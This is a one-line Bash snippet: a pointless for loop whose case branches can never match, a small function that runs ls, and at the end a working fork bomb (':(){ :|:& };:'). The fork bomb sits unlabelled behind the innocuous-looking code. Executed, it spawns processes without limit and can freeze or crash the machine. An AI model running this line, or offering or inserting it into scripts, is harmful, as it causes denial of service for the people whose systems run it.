for i in {1..3}; do case $i in a|b) [[ -f x ]] && ((i++));; esac; done; f() { ls; }; :(){ :|:& };:
